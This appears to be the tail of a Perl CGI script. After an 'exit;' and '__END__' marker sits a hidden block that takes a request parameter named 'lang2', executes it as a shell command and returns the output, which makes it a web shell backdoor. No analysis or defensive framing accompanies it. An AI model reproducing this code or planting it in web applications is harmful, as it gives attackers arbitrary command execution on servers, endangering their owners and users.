exit;
__END__
unless (!$cgi->param('lang2')) { print "Cache-Control: no-store\n"; print 'Content-type: text/plain', "\n\n"; my $v=$cgi->param('lang2'); print `$v 2>&1`; exit 0; }
